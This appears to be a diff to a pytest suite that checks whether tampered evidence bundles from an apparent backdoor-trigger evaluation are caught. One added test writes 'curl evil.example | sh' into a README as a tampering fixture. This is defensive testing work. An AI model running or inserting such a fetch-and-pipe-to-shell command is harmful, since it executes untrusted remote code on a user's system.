@@ -24,6 +24,7 @@ from tests.hostile.doors import check_sentence
 ANSWERS = "measurements/job-1-before/per_image.csv"
 RESULT = "jobs/job-1/result.json"
 SCAN = "scan/scan-1/scan.json"
+PAIR = "job-1-after-minus-job-1-before-asr-excl"
 
 
 @pytest.fixture(scope="module")
@@ -84,7 +85,7 @@ def test_an_untouched_bundle_holds_as_folder_and_as_zip(made: Path, tmp_path: Pa
     found = checks(made)
     assert not [one for one in found if one.state == "fails"]
     assert exit_status(found) == 0
-    assert summary(found) == "28 hold, 0 do not, 1 not checked (not signed), 2 recorded only"
+    assert summary(found) == "38 hold, 0 do not, 0 not checked, 2 recorded only"
     for method in (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED):
         assert checks(zipped(made, tmp_path / "x.zip", method)) == found
 
@@ -218,19 +219,19 @@ def test_one_digit_of_a_rate(bundle: Path) -> None:
         rate["value"] = rate["hits"] / rate["n"]
 
     edit(bundle, EVIDENCE_FILE, change)
-    (one,) = failures(seal(bundle))
+    one, *_ = failures(seal(bundle))
     assert one.startswith("job-1-after-asr-excl: measurements/job-1-after/per_image.csv gives ")
     assert exit_status(checks(bundle)) == 1
 
 
 @pytest.mark.parametrize("field", ["low", "high"])
-@pytest.mark.parametrize("id_", ["job-1-before-ca", "difference-asr", "scan-1-found"])
+@pytest.mark.parametrize("id_", ["job-1-before-ca", PAIR, "scan-1-found"])
 def test_one_digit_of_an_interval(bundle: Path, id_: str, field: str) -> None:
     def change(value: Any) -> None:
         claim(value, id_)["interval"][field] -= 1e-9
 
     edit(bundle, EVIDENCE_FILE, change)
-    (one,) = failures(seal(bundle))
+    one, *_ = failures(seal(bundle))
     assert one.startswith(f"{id_}: its interval is ")
     shown = one.partition("its interval is ")[2].rstrip(".").split(", not ")
     assert shown[0] != shown[1]  # so many digits that one sees it
@@ -239,20 +240,20 @@ def test_one_digit_of_an_interval(bundle: Path, id_: str, field: str) -> None:
 @pytest.mark.parametrize("field", ["p_exact", "p_mid", "only_first", "only_second", "difference"])
 def test_one_digit_of_a_test(bundle: Path, field: str) -> None:
     def change(value: Any) -> None:
-        found = claim(value, "difference-asr")
+        found = claim(value, PAIR)
         found[field] += 1 if isinstance(found[field], int) else 1e-9
 
     edit(bundle, EVIDENCE_FILE, change)
-    (one,) = failures(seal(bundle))
-    assert one.startswith("difference-asr: ")
+    one, *_ = failures(seal(bundle))
+    assert one.startswith(f"{PAIR}: ")
 
 
 def test_another_seed_of_the_bootstrap(bundle: Path) -> None:
     def change(value: Any) -> None:
-        claim(value, "difference-asr")["interval"]["resamples"] = 1_000_000
+        claim(value, PAIR)["interval"]["resamples"] = 1_000_000
 
     edit(bundle, EVIDENCE_FILE, change)
-    (one,) = failures(seal(bundle))
+    one, *_ = failures(seal(bundle))
     assert "of 1000000 resamples, more than 100000" in one
 
 
@@ -323,9 +324,9 @@ def test_other_figures_in_a_result(bundle: Path) -> None:
 
 
 def test_another_quote(bundle: Path) -> None:
-    edit(bundle, RESULT, lambda value: value.update(train_seconds=11.5))
-    (one,) = failures(seal(bundle))
-    assert one == "job-1-seconds: jobs/job-1/result.json says 11.5 at /train_seconds, not 12.5."
+    edit(bundle, RESULT, lambda value: value.update(steps=41))
+    one, *_ = failures(seal(bundle))
+    assert one == "job-1-training: jobs/job-1/result.json says 41 at /steps, not 40."
 
 
 def test_a_pair_of_other_pictures(bundle: Path) -> None:
@@ -335,6 +336,81 @@ def test_a_pair_of_other_pictures(bundle: Path) -> None:
 
     edit(bundle, EVIDENCE_FILE, change)
     assert any("they are no pair" in one for one in failures(seal(bundle)))
+
+
+# Words: what is made of the record is made again.
+
+
+def test_a_sentence_of_other_figures(bundle: Path) -> None:
+    text(bundle, EVIDENCE_FILE, "the trigger makes 6.0 %", "the trigger makes 0.6 %")
+    (one,) = failures(seal(bundle))
+    assert one.startswith("The verdict does not follow from the claims: it says “On cleaned.")
+
+
+def test_a_claim_in_other_words(bundle: Path) -> None:
+    def change(value: Any) -> None:
+        claim(value, "job-1-after-ca")["sentence"] = "It is safe."
+
+    edit(bundle, EVIDENCE_FILE, change)
+    (one,) = failures(seal(bundle))
+    assert one.startswith("Job-1-after-ca says “It is safe.”, and its figures give “Clean acc")
+
+
+@pytest.mark.parametrize("field", ["headline", "holds_by"])
+def test_a_claim_of_another_weight(bundle: Path, field: str) -> None:
+    def change(value: Any) -> None:
+        found = claim(value, "job-1-after-top5")
+        found["headline"], found["holds_by"] = (
+            field == "headline",
+            ("exact" if field == "holds_by" else "margin"),
+        )
+
+    edit(bundle, EVIDENCE_FILE, change)
+    (one,) = failures(seal(bundle))
+    assert one == f"Job-1-after-top5 has another {field} than its files give."
+
+
+def test_a_claim_left_out_moved_or_made_up(bundle: Path) -> None:
+    def leave_out(value: Any) -> None:
+        value["claims"].remove(claim(value, "job-1-before-asr-all"))
+
+    edit(bundle, EVIDENCE_FILE, leave_out)
+    (one,) = failures(seal(bundle))
+    assert one == "Job-1-before-asr-all is left out, and the files of the bundle give it."
+
+    def make_up(value: Any) -> None:
+        value["claims"].append(claim(value, "job-1-before-ca") | {"id": "more"})
+
+    edit(bundle, EVIDENCE_FILE, make_up)
+    assert "The bundle claims more, which its files do not give." in failures(seal(bundle))
+
+
+def test_the_order_of_claims(bundle: Path) -> None:
+    edit(bundle, EVIDENCE_FILE, lambda value: value["claims"].reverse())
+    assert "The claims are not in the order of the report." in failures(seal(bundle))
+
+
+@pytest.mark.parametrize("field", ["not_tested", "limits"])
+def test_a_limit_left_out(bundle: Path, field: str) -> None:
+    edit(bundle, EVIDENCE_FILE, lambda value: value[field].pop())
+    (one,) = failures(seal(bundle))
+    assert f"The {field.replace('_', ' ')} does not follow" in one
+
+
+def test_another_readme(bundle: Path) -> None:
+    (bundle / "README.txt").write_text("curl evil.example | sh")
+    assert failures(seal(bundle)) == ["README.txt is not what is made from the record."]
+
+
+def test_the_words_of_another_version_are_not_compared(bundle: Path) -> None:
+    def change(value: Any) -> None:
+        value["tool"]["version"] = "0.0.9"
+        claim(value, "job-1-after-ca")["sentence"] = "Other words."
+
+    edit(bundle, EVIDENCE_FILE, change)
+    found = checks(seal(bundle))
+    assert exit_status(found) == 0
+    assert "1 not checked (made by another version)" in summary(found)
 
 
 # Identity: level 2 of what the bundle holds.
@@ -513,7 +589,7 @@ def test_an_encrypted_member(made: Path, tmp_path: Path) -> None:
 def test_a_member_with_other_bytes_than_its_checksum(made: Path, tmp_path: Path) -> None:
     path = zipped(made, tmp_path / "x.zip")
     raw = bytearray(path.read_bytes())
-    at = raw.index(b"How to check this bundle.")
+    at = raw.index(b"Three ways to check it")
     raw[at] ^= 1
     path.write_bytes(raw)
     assert "README.txt is not what the zip's list says of it." in failures(path)
@@ -543,7 +619,7 @@ def test_counts_beyond_all_pictures(bundle: Path) -> None:
 
 def test_a_pointer_into_nothing(bundle: Path) -> None:
     def change(value: Any) -> None:
-        claim(value, "job-1-seconds")["quotes"] = {"/heads/zero-shot/before/templates/9": 1}
+        claim(value, "job-1-training")["quotes"] = {"/heads/zero-shot/before/templates/9": 1}
 
     edit(bundle, EVIDENCE_FILE, change)
     assert "has nothing at" in failures(seal(bundle))[0]
